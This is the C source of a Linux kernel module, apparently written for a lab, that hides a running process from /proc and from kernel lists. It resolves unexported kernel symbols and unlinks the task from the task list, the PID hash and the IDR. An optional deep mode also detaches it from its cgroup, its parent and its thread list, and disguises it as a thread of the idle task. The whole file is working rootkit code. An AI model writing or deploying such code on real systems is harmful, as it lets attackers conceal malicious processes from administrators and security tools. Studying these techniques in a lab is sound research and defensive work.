// SPDX-License-Identifier: GPL-2.0-only
/*
 * Removes a process from the list of tasks and from the PIDs that /proc lists. The process still
 * runs: the scheduler has its own lists. With deep=1 it is also removed from its cgroup, from its
 * parent's children and from its own list of threads, so that no list leads to it, and it claims
 * to be a thread of the idle task.
 */
#include "lab.h"

#include <linux/cgroup-defs.h>
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0444);
static bool deep;
module_param(deep, bool, 0444);

static struct task_struct *task;
static struct pid_namespace *ns;
static rwlock_t *tasks_lock; /* not exported to modules */
static spinlock_t *sets_lock;

static void lock(void)
{
	write_lock_irq(tasks_lock);
	spin_lock(sets_lock);
}

static void unlock(void)
{
	spin_unlock(sets_lock);
	write_unlock_irq(tasks_lock);
}

static int __init hidetask_init(void)
{
	task = pid_task(find_get_pid(pid), PIDTYPE_TGID);
	ns = (void *)lab_symbol("init_pid_ns");
	tasks_lock = (void *)lab_symbol("tasklist_lock");
	sets_lock = (void *)lab_symbol("css_set_lock");
	if (!task || !ns || !tasks_lock || !sets_lock)
		return -ESRCH;
	lock();
	list_del_rcu(&task->tasks);
	hlist_del_rcu(&task->pid_links[PIDTYPE_PID]);
	hlist_del_rcu(&task->pid_links[PIDTYPE_TGID]);
	idr_remove(&ns->idr, pid);
	if (deep) {
		task->group_leader = (void *)lab_symbol("init_task");
		list_del_init(&task->cg_list);
		list_del_init(&task->sibling);
		list_del_rcu(&task->thread_node);
	}
	unlock();
	return 0;
}

static void __exit hidetask_exit(void)
{
	struct pid *p = task->thread_pid;

	lock();
	if (deep) {
		task->group_leader = task;
		list_add_tail(&task->cg_list, &task->cgroups->tasks);
		list_add_tail(&task->sibling, &task->real_parent->children);
		list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
	}
	idr_alloc(&ns->idr, p, pid, pid + 1, GFP_ATOMIC);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID], &p->tasks[PIDTYPE_PID]);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &p->tasks[PIDTYPE_TGID]);
	list_add_rcu(&task->tasks, &((struct task_struct *)lab_symbol("init_task"))->tasks);
	unlock();
}
module_init(hidetask_init);
module_exit(hidetask_exit);
